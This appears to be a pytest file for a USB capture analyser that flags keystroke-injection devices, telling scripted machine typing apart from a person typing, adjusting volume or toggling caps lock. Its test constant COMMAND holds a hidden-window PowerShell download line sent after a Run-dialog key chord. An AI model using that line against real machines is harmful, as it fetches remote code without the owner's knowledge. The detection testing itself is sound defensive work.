import random

import pytest

from gifthorse.inspect.usb.inspecting import examine_usb
from gifthorse.inspect.usb.report_shapes import CONSUMER, KEYS, fields_in, one_bit_each, pressed
from gifthorse.model.findings import Severity
from tests.samples import usb as make
from tests.samples import usb_reports as reports
from tests.samples.usb_reports import BIT_FOR_EACH, PLAIN, bits, media, sent, told, typed_in_bits

KEYBOARD = make.blob(make.KEYBOARD)
COMMAND = "powershell -w hidden iwr https://example.org/a\n"
LETTER = "dear ann it was good to meet you at the fair and i hope that we can talk about the plan for next year some day soon. bob"
RUN = (8, 0x15)


def found(*parts: list[make.Packet]) -> list[Severity]:
    heard = sorted([*make.plugged(KEYBOARD, link=220), *(packet for part in parts for packet in part)], key=lambda packet: packet[0])
    findings = examine_usb(make.capture(heard), "capture")[0]
    return [finding.severity for finding in findings if finding.id == "usb.keystroke-injection"]


def a_persons_gaps(seed: int, pace: float = 0.17) -> list[float]:
    chance = random.Random(seed)
    return [min(2.5, chance.lognormvariate(0, 0.45) * pace) for _ in range(200)]


@pytest.mark.parametrize("descriptor", [told(BIT_FOR_EACH), []], ids=["told", "unheard"])
def test_a_machine_that_types_with_a_bit_for_each_key_is_hostile(descriptor: list[make.Packet]) -> None:
    assert found(descriptor, typed_in_bits(COMMAND, chord=RUN)) == [Severity.CRITICAL]


@pytest.mark.parametrize("seed", range(10))
@pytest.mark.parametrize("descriptor", [told(BIT_FOR_EACH), []], ids=["told", "unheard"])
def test_a_person_who_types_on_such_a_keyboard_is_no_finding(seed: int, descriptor: list[make.Packet]) -> None:
    assert found(descriptor, typed_in_bits(LETTER, at=20.0, gaps=a_persons_gaps(seed), held=0.09)) == []


def test_slow_typing_in_bits_does_not_clear_what_was_typed() -> None:
    gaps = a_persons_gaps(3, pace=0.3)
    assert found(told(BIT_FOR_EACH), typed_in_bits(COMMAND, at=60.0, gaps=gaps, chord=RUN)) == [Severity.HIGH]


def test_a_padding_byte_that_is_not_empty_hides_no_key() -> None:
    def report(modifiers: int, code: int) -> bytes:
        return bytes([modifiers, 0x55, code, 0, 0, 0, 0, 0])

    heard = [sent(0.5, report(*RUN)), sent(0.51, report(0, 0))]
    for position, letter in enumerate(COMMAND):
        at = 1 + position * 0.01
        heard += [sent(at, report(*make.code_of(letter))), sent(at + 0.002, report(0, 0))]
    assert found(told(PLAIN), heard) == [Severity.CRITICAL]


def test_a_media_key_that_opens_a_program_counts_as_the_way_in() -> None:
    typed = typed_in_bits(COMMAND, at=2.0, gaps=[0.12, 0.3, 0.2])
    assert found(told(BIT_FOR_EACH), media(reports.BROWSER_KEY, at=1.5), typed) == [Severity.CRITICAL]
    assert found(told(BIT_FOR_EACH), media(reports.LOUDER_KEY, at=31.5), typed_in_bits("ok\n", at=32.0, gaps=[0.3])) == []


@pytest.mark.parametrize("seed", range(5))
def test_a_person_who_changes_the_volume_and_capitals_stays_calm(seed: int) -> None:
    capitals = [packet for at in (21.0, 25.0, 29.0) for packet in (sent(at, bits(0, 0x39)), sent(at + 0.1, bits()))]
    typed = typed_in_bits(LETTER, at=20.0, gaps=a_persons_gaps(seed), held=0.09)
    assert found(told(BIT_FOR_EACH), media(reports.LOUDER_KEY, at=19.0), capitals, typed, make.lamps(3, at=21.0)) == []


def test_many_answers_on_the_lamps_count_for_these_keyboards_too() -> None:
    assert found(told(BIT_FOR_EACH), typed_in_bits(LETTER, at=30.0, gaps=[0.1, 0.3, 0.2]), make.lamps(80, at=31.0)) == [Severity.HIGH]


def test_a_descriptor_tells_keys_from_media_keys() -> None:
    fields = fields_in(BIT_FOR_EACH)
    assert [(field.number, field.start, field.page, field.listed) for field in fields] == [
        (6, 0, KEYS, False),
        (6, 8, KEYS, False),
        (3, 0, CONSUMER, True),
    ]
    down = pressed(bits(2, 4, 0x28), fields)
    assert down is not None
    assert (down.modifiers, down.keys, down.consumer) == (2, {4, 0x28}, frozenset())
    assert pressed(b"\x07" + bytes(16), fields) is None


def test_a_joystick_is_no_keyboard() -> None:
    chance = random.Random(5)
    assert not one_bit_each([chance.randbytes(20) for _ in range(100)])
    assert not one_bit_each([bytes(20)] * 100)


@pytest.mark.parametrize("seed", range(50))
def test_any_descriptor_and_any_report_can_be_read(seed: int) -> None:
    chance = random.Random(seed)
    body = bytearray(BIT_FOR_EACH)
    for _ in range(8):
        body[chance.randrange(len(body))] = chance.randrange(256)
    fields = fields_in(bytes(body) + chance.randbytes(20))
    for length in (0, 1, 2, 8, 17, 64):
        down = pressed(chance.randbytes(length), fields)
        assert down is None or max(down.keys, default=4) <= 0xA4
